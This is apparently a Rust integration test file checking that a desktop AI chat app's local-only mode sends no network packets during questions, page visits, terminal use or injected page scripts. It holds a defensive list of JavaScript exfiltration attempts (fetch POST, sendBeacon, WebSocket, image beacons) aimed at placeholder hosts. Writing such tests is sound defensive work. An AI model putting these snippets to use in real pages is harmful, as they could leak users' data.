//! While the mode is local only, not one packet leaves: asked questions, every page, and a page
//! that tries. On a network where everything that is sent is seen.
#![cfg(target_os = "linux")]

use std::{
    net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket},
    process::Command,
    time::Duration,
};

use hearth_tests::{
    Desk, Window,
    packets::{Packet, Sniffer, inside},
    program,
};
use serde_json::json;

/// `HEARTH_TEST_TURNS=1000` for the full count.
const TURNS: usize = 50;
const PAGES: [&str; 5] = ["models", "usage", "privacy", "settings", "chat"];

#[tokio::test]
async fn every_kind_of_packet_is_seen_before_silence_counts() {
    if !inside("every_kind_of_packet_is_seen_before_silence_counts") {
        return;
    }
    let sniffer = Sniffer::start();
    for probe in [tcp, udp, udp_v6, name_lookup] {
        probe(&sniffer);
    }
    web_view(&sniffer).await;
}

fn seen(sniffer: &Sniffer, what: &str, is_it: impl Fn(&Packet) -> bool) {
    let packets = sniffer.take();
    assert!(packets.iter().any(is_it), "a planted {what} was not seen among {packets:?}");
}

fn tcp(sniffer: &Sniffer) {
    let far: SocketAddr = "1.2.3.4:443".parse().unwrap();
    // Nobody answers; that it was tried is what counts.
    let _ = TcpStream::connect_timeout(&far, Duration::from_millis(200));
    seen(sniffer, "TCP connection", |packet| packet.is_tcp() && packet.to() == far);
}

fn udp(sniffer: &Sniffer) {
    let far: SocketAddr = "8.8.8.8:53".parse().unwrap();
    UdpSocket::bind("0.0.0.0:0").unwrap().send_to(b"?", far).unwrap();
    seen(sniffer, "UDP packet", |packet| packet.is_udp() && packet.to() == far);
}

fn udp_v6(sniffer: &Sniffer) {
    let far: SocketAddr = "[2001:db8::1]:443".parse().unwrap();
    let Ok(socket) = UdpSocket::bind("[::]:0") else {
        println!("no IPv6 on this system: nothing to plant, and nothing that could leave by it");
        return;
    };
    socket.send_to(b"?", far).unwrap();
    seen(sniffer, "IPv6 packet", |packet| packet.is_udp() && packet.to() == far);
}

fn name_lookup(sniffer: &Sniffer) {
    // It fails; the question to a name server is what counts.
    let _ = "planted.example.org:443".to_socket_addrs();
    seen(sniffer, "name lookup", |packet| packet.to().port() == 53);
}

/// WebKitGTK's own small browser, which has none of the window's defences, loads a page.
async fn web_view(sniffer: &Sniffer) {
    let desk = Desk::fresh();
    let browser = desk.browser().await;
    // Nobody serves it; that it was tried is what counts.
    let _ = browser.page().goto("http://5.6.7.8/").await;
    seen(sniffer, "page load", |packet| packet.to() == "5.6.7.8:80".parse().unwrap());
}

#[tokio::test]
async fn questions_and_every_page_send_nothing() {
    if !inside("questions_and_every_page_send_nothing") {
        return;
    }
    let turns = std::env::var("HEARTH_TEST_TURNS").map_or(TURNS, |n| n.parse().expect("a number"));
    let sniffer = Sniffer::start();
    let desk = Desk::fresh();
    let window = desk.open().await;
    set_up_a_provider(&window).await;
    for turn in 0..turns {
        let answer = window.answer_to(&format!("What is {turn} + 3?")).await;
        assert_eq!(answer.finish, "stop");
        let opinion = json!({ "message": answer.id, "provider": "far", "keep": [] });
        window.invoke("opinion_prepare", opinion).await.unwrap_err();
        if turn % 10 == 0 {
            for page in PAGES {
                window.go(page).await;
            }
            window.click("new-chat").await;
        }
    }
    window.close().await;
    let packets = sniffer.take();
    println!("{turns} turns, {} packets", packets.len());
    assert_eq!(packets, []);
}

/// Everything that a second opinion needs, but a mode that allows one.
async fn set_up_a_provider(window: &Window<'_>) {
    let config = json!({
        "id": "far",
        "name": "Far",
        "wire": "open_ai_compatible",
        "own_server": false,
        "url": "https://1.2.3.4/v1",
        "model": "m-1",
        "price": { "input": "1", "output": "1" },
    });
    window.invoke("provider_save", json!({ "config": config })).await.unwrap();
    let key = json!({ "id": "far", "key": "sk-canary", "home": "this_run" });
    window.invoke("provider_set_key", key).await.unwrap();
}

#[tokio::test]
async fn the_terminal_sends_nothing_either() {
    if !inside("the_terminal_sends_nothing_either") {
        return;
    }
    let sniffer = Sniffer::start();
    let desk = Desk::fresh();
    let mut ask: Command = desk.command(program("hearth"));
    let output = ask.args(["ask", "--json", "What is the capital of France?"]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(sniffer.take(), []);
}

/// What a page that an attacker wrote could try; the window shows none, this is the second wall.
const ATTEMPTS: [&str; 7] = [
    "fetch('http://9.9.9.1/')",
    "fetch('https://9.9.9.2/', { mode: 'no-cors', method: 'POST', body: 'x' })",
    "new Image().src = 'http://9.9.9.3/x.png'",
    "navigator.sendBeacon('http://9.9.9.4/', 'x')",
    "new WebSocket('ws://9.9.9.5/')",
    "location.href = 'http://9.9.9.6/'",
    "window.open('http://9.9.9.7/')",
];

#[tokio::test]
async fn a_page_that_tries_to_send_gets_nothing_out() {
    if !inside("a_page_that_tries_to_send_gets_nothing_out") {
        return;
    }
    let sniffer = Sniffer::start();
    let desk = Desk::fresh();
    let window = desk.open().await;
    for attempt in ATTEMPTS {
        // Each may throw or reject; the packets are what counts.
        let script = format!("try {{ Promise.resolve({attempt}).catch(() => 0) }} catch {{ }}");
        window.run(&script, vec![]).await;
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    assert_eq!(sniffer.take(), []);
    assert_ne!(window.violations().await, Vec::<String>::new(), "the attempts were made");
    // The window is still the app: the page was not replaced.
    let here = window.run("return location.href", vec![]).await;
    assert_eq!(here, json!("tauri://localhost"));
}
